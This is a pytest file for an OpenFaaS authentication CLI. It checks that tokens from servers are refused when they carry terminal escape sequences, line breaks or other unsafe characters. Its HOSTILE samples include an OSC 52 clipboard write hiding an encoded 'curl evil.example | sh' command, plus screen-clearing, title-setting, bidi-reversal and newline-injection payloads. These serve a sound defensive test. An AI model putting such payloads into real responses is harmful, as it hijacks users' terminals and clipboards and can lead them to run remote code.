"""Issue 21, finding 4: a token from a server never reaches the terminal (or the store) raw.

An identity provider or gateway answering an `access_token`, `id_token` or `refresh_token`
that holds ESC/OSC sequences (a clipboard write, a cleared screen, a window title), a line
break, a space or anything beyond ASCII is refused where token answers are read
(`tokens.response.TokenResponse.from_json`): exit 3, one line, nothing stored, nothing
printed. `invoke` follows the same rule (`is_token_text`) for every token it sends.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Callable

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli_support import CliResult, cli_runner, make_jwt
from hostile.server import HostileServer, Request

SUBJECT = make_jwt({"iss": "https://idp.example.com", "sub": "alice", "exp": 4_000_000_000})
GOOD = make_jwt({"iss": "http://gw", "sub": "fed:alice", "exp": 4_000_000_000})
# What a hostile server would put in a token: OSC 52 writes the clipboard, CSI 2J clears the
# screen, OSC 0 sets the title; C1 CSI (U+009B) does the same on some terminals; U+202E
# reverses what follows; a line break starts a line of the server's choosing.
HOSTILE = {
    "osc52-clipboard": GOOD + "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
    "clear-screen": "\x1b[2J\x1b[H" + GOOD,
    "title": "\x1b]0;pwned\x1b\\" + GOOD,
    "c1-csi": GOOD + "\u009b2J",
    "bidi": GOOD + "\u202egnp.exe",
    "newline": GOOD + "\nexport PATH=/tmp",
    "space": "two words",
    "nul": GOOD + "\x00",
    "non-ascii": "t\u00f6ken",
}


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
        ) -> Callable[..., CliResult]:
    return cli_runner(capsys, monkeypatch)


def assert_refused(result: CliResult, token: str, home: Path) -> None:
    assert result.code == 3, result.err
    assert result.out == ""  # nothing printed where the token would have been
    assert "\x1b" not in result.err and "\u009b" not in result.err
    assert "holding characters no token may hold" in result.err
    assert len(result.err.strip().splitlines()) <= 2  # the message, perhaps a hint
    stored = "".join(p.read_text(errors="replace") for p in home.rglob("*") if p.is_file())
    assert token not in stored and json.dumps(token)[1:-1] not in stored


# -- the gateway's exchange: exchange -o token|header|json -------------------------------


@pytest.mark.parametrize("output", ["token", "header", "json"])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_exchange_refuses_a_hostile_access_token_before_printing_or_caching(
    hostile: HostileServer, run: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch,
    isolated_environment: Path, output: str, case: str,
) -> None:
    token = HOSTILE[case]
    hostile.route("/oauth/token")(lambda r: r.json(200, {
        "access_token": token, "token_type": "Bearer", "expires_in": 300, "scope": "function"}))
    monkeypatch.setenv("FAASAUTH_SUBJECT_TOKEN", SUBJECT)
    result = run("exchange", "-g", hostile.url, "-o", output, "--audience", "openfaas-fn:env")
    assert_refused(result, token, isolated_environment)
    # Nothing cached: the next exchange asks the gateway again (and is refused again).
    again = run("exchange", "-g", hostile.url, "-o", output, "--audience", "openfaas-fn:env")
    assert again.code == 3
    assert len([r for r in hostile.seen if r.path == "/oauth/token"]) == 2


def test_exchange_still_prints_a_good_token(
    hostile: HostileServer, run: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile.route("/oauth/token")(lambda r: r.json(200, {
        "access_token": GOOD, "token_type": "Bearer", "expires_in": 300}))
    monkeypatch.setenv("FAASAUTH_SUBJECT_TOKEN", SUBJECT)
    result = run("exchange", "-g", hostile.url, "-o", "token")
    assert result.code == 0, result.err
    assert result.out == GOOD + "\n"


# -- the identity provider: auth --print-token ------------------------------------------


@pytest.mark.parametrize("field", ["access_token", "id_token", "refresh_token"])
@pytest.mark.parametrize("case", ["osc52-clipboard", "c1-csi", "newline"])
def test_auth_refuses_a_hostile_token_from_the_identity_provider(
    hostile: HostileServer, run: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch,
    isolated_environment: Path, field: str, case: str,
) -> None:
    token = HOSTILE[case]
    answer = {"access_token": GOOD, "token_type": "Bearer", "expires_in": 300, field: token}
    hostile.discovery()
    hostile.route("/token")(lambda r: r.json(200, answer))
    monkeypatch.setenv("FAASAUTH_CLIENT_SECRET", "s3cret-s3cret")
    result = run("auth", "-g", "http://127.0.0.1:9", "--authority", hostile.url,
                 "--client-id", "cid", "--print-token")
    assert_refused(result, token, isolated_environment)
    assert field in result.err and "login failed" in result.err
    status = run("status", "-g", "http://127.0.0.1:9")
    assert "\x1b" not in status.out + status.err


def test_a_refresh_answer_with_a_hostile_token_is_refused_not_taken_for_no_token() -> None:
    from faasauth.config.settings import Settings
    from faasauth.errors import MalformedResponse
    from faasauth.idp.forms import Client
    from faasauth.idp.refresh import refresh
    from faasauth.runtime import Runtime

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json={"access_token": GOOD, "id_token": HOSTILE["title"],
                                         "refresh_token": "next-refresh-token"})

    rt = Runtime(Settings(gateway="http://127.0.0.1:9"),
                 http_options={"transport": httpx.MockTransport(answer)})
    try:
        with pytest.raises(MalformedResponse) as info:
            refresh(rt, "http://127.0.0.1:9/token", "old-refresh-token", Client("cid", None, "none"))
    finally:
        rt.close()
    assert info.value.exit_code == 3
    assert "renewing the login failed" in info.value.message
    assert "id_token holding characters" in info.value.message


# -- stored entries an older faasauth wrote unchecked: a miss, never printed -------------


def test_a_cached_function_token_or_login_with_a_hostile_token_is_a_miss() -> None:
    from faasauth.tokens.function import FunctionToken
    from faasauth.tokens.login import Login

    good = FunctionToken(access_token=GOOD, expires_at=4e9).to_entry()
    assert FunctionToken.from_entry(good) is not None
    assert FunctionToken.from_entry({**good, "access_token": HOSTILE["clear-screen"]}) is None
    login = Login(gateway="http://gw", id_token=GOOD, refresh_token="r-token").to_entry()
    assert Login.from_entry(login) is not None
    for field in ("id_token", "access_token", "refresh_token"):
        assert Login.from_entry({**login, field: HOSTILE["osc52-clipboard"]}) is None


# -- one rule: what the answer parser accepts is what invoke sends ----------------------


@given(st.text(min_size=1, max_size=40))
def test_the_answer_parser_and_invoke_share_one_rule(token: str) -> None:
    from faasauth.tokens.response import TokenResponse, UnsafeToken, is_token_text

    visible = all("\x21" <= c <= "\x7e" for c in token)
    assert is_token_text(token) is visible
    try:
        parsed = TokenResponse.from_json({"access_token": token})
    except UnsafeToken:
        assert not visible
    else:
        assert visible and parsed.access_token == token


def test_invoke_refuses_by_the_same_rule(
    hostile: HostileServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A token source other than the exchange answer (a library's own) meets the same rule
    before a header carries it."""
    from faasauth.errors import MalformedResponse
    from faasauth.gateway.function_auth import FunctionAuth
    from faasauth.tokens.function import FunctionToken, ObtainedToken

    @hostile.route("/function/env")
    def function(request: Request) -> None:
        request.send(200, b"ok", "text/plain")

    def tokens(audience: str, reject: str | None = None) -> ObtainedToken:
        return ObtainedToken(FunctionToken(access_token=HOSTILE["c1-csi"]), False, "k")

    auth = FunctionAuth(hostile.url, tokens, always=True)
    with httpx.Client(auth=auth) as client, pytest.raises(MalformedResponse) as info:
        client.post(f"{hostile.url}/function/env")
    assert "cannot carry" in info.value.message
    assert not [r for r in hostile.seen if r.path == "/function/env"]
